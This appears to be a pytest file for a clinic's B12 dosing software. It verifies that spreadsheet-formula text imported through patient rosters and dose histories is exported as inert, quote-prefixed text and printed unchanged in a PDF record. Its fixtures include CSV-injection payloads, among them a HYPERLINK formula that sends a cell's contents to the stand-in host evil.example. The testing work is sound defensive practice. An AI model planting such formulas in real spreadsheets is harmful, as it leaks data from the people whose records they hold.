"""Text that a spreadsheet would run as a formula ("=HYPERLINK(...)", "+1", "-2", "@SUM(1)"), imported
through the real roster and dose history imports, is kept as typed and leaves every export as text: no
cell of any workbook is a formula, each such cell is plain text with Excel's quote prefix, and the
treatment record PDF prints it as typed."""

from __future__ import annotations

import csv
import io
import subprocess
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import timedelta
from pathlib import Path

import pytest
from openpyxl import load_workbook
from openpyxl.cell.cell import Cell
from sqlalchemy import select
from sqlalchemy.orm import Session

from b12desk.data.models import Administration, Patient
from b12desk.exports import workbooks
from b12desk.exports.patient_report import write_patient_record
from b12desk.services import history_import as hist
from b12desk.services import imports
from b12desk.services.patient_record import patient_record
from b12desk.services.reports import ReportKind, ReportParameters
from tests.conftest import Staffing
from tests.services.dose_world import CLOCK, TODAY, World, _verified_plan, make_world

LINK = '=HYPERLINK("https://evil.example/?q="&A1,"Open")'
NAME_LINK = '=HYPERLINK("https://evil.example/","Reid")'  # a name may not hold a digit


@dataclass(frozen=True)
class Imported:
    """A patient of the roster file: the names and notes as typed in it, and as the import stores them
    (surrounding whitespace, such as a leading tab or carriage return, is trimmed)."""

    mrn: str
    family_name: str
    given_name: str
    notes: str
    dose_note: str

    @property
    def stored_note(self) -> str:
        return self.dose_note.strip()


PATIENTS = [
    Imported("F1", NAME_LINK, "@SUM(A)", LINK, LINK),
    Imported("F2", "+Okafor", "-Bea", "+1", "+1"),
    Imported("F3", "-Lee", "+Jo", "-2", "-2"),
    Imported("F4", "@SUM(Ng)", "Mo", "@SUM(1)", "@SUM(1)"),
    Imported("F5", "Tabb", "Ann", "\t=1", "\t=1"),
    Imported("F6", "Carr", "Ann", "\r=1", "\r=1"),
]
FORMULA_STARTS = tuple("=+-@\t\r")
PERIOD = ReportParameters(TODAY - timedelta(days=60), TODAY)


def _csv(header: list[str], rows: list[list[str]]) -> bytes:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n", quoting=csv.QUOTE_ALL)
    writer.writerow(header)
    writer.writerows(rows)
    return out.getvalue().encode("utf-8")


@pytest.fixture
def world(session: Session, staff: Staffing, tmp_path: Path) -> World:
    """The clinic of dose_world, and the PATIENTS imported through the roster import, each on a
    verified plan, with one dose each imported through the dose history import."""
    w = make_world(session, staff)
    roster = tmp_path / "roster.csv"
    roster.write_bytes(
        _csv(
            ["mrn", "family_name", "given_name", "date_of_birth", "cause", "notes"],
            [
                [p.mrn, p.family_name, p.given_name, "1950-01-01", "pernicious_anaemia", p.notes]
                for p in PATIENTS
            ],
        )
    )
    report = imports.import_patients(session, staff.admin, roster, dry_run=False, clock=CLOCK)
    assert report.ok and report.imported == len(PATIENTS), report.problems
    for p in PATIENTS:
        patient = session.scalars(select(Patient).where(Patient.mrn == p.mrn)).one()
        assert (patient.family_name, patient.given_name, patient.notes) == (
            p.family_name,
            p.given_name,
            p.notes.strip(),
        )  # stored as typed
        _verified_plan(session, staff, w.templates, patient.id, continues_elsewhere=True)
    history = tmp_path / "history.csv"
    history.write_bytes(
        _csv(
            ["mrn", "given_at", "dose", "route", "site", "outcome", "note"],
            [[p.mrn, "2026-11-20", "1000 mcg", "im", "left deltoid", "given", p.dose_note] for p in PATIENTS],
        )
    )
    checked = hist.import_history(session, staff.pharmacist, history, dry_run=False, clock=CLOCK)
    assert checked.ok and checked.imported == len(PATIENTS), checked.problems
    notes = set(session.scalars(select(Administration.note)))
    assert {p.stored_note for p in PATIENTS} <= notes
    return w


def _cells(path: Path) -> Iterator[Cell]:
    for ws in load_workbook(path).worksheets:
        for row in ws.iter_rows():
            yield from (c for c in row if isinstance(c, Cell))


def _expected_texts(kind: ReportKind) -> set[str]:
    """What each workbook shows of the imported text, as the workbook words it."""
    if kind == ReportKind.ADMINISTRATIONS:
        return {f"{p.family_name.upper()}, {p.given_name}" for p in PATIENTS} | {
            p.stored_note for p in PATIENTS
        }
    if kind == ReportKind.DUE:
        return {p.family_name for p in PATIENTS} | {p.given_name for p in PATIENTS}
    return set()


def test_no_workbook_holds_a_formula_and_the_imported_text_reads_as_typed(
    world: World, session: Session, staff: Staffing, tmp_path: Path
) -> None:
    for kind in ReportKind:
        # The due list of the days after the imported doses, when the plans expect the next ones.
        period = ReportParameters(TODAY, TODAY + timedelta(days=3)) if kind == ReportKind.DUE else PERIOD
        path = tmp_path / f"{kind.value}.xlsx"
        workbooks.export_workbook(kind, session, staff.manager, period, path, clock=CLOCK)
        cells = list(_cells(path))
        formulas = [f"{c.parent.title}!{c.coordinate}: {c.value!r}" for c in cells if c.data_type == "f"]
        assert formulas == [], kind
        for cell in cells:
            if isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS):
                # Plain text (not a formula, nor a formula's result), and kept text when edited in Excel.
                where = f"{kind.value}: {cell.parent.title}!{cell.coordinate}"
                assert cell.data_type == "s" and cell.quotePrefix, where
        shown = {c.value for c in cells}
        missing = _expected_texts(kind) - shown
        assert not missing, f"not in the {kind.value} workbook as typed: {missing}"


def test_the_treatment_record_prints_the_text_as_typed(
    world: World, session: Session, staff: Staffing, tmp_path: Path
) -> None:
    """A PDF has no formulas to neutralise; the text is printed as typed, escaped for reportlab."""
    patient = session.scalars(select(Patient).where(Patient.mrn == "F1")).one()
    out = tmp_path / "record.pdf"
    write_patient_record(out, patient_record(session, staff.nurse, patient.id, clock=CLOCK))
    text = subprocess.run(["pdftotext", str(out), "-"], capture_output=True, text=True, check=True).stdout
    flat = "".join(text.split())
    assert "".join(f"{NAME_LINK.upper()}, @SUM(A)".split()) in flat  # the name, as labels print it
    assert "".join(f"Note: {LINK}".split()) in flat  # the dose's note
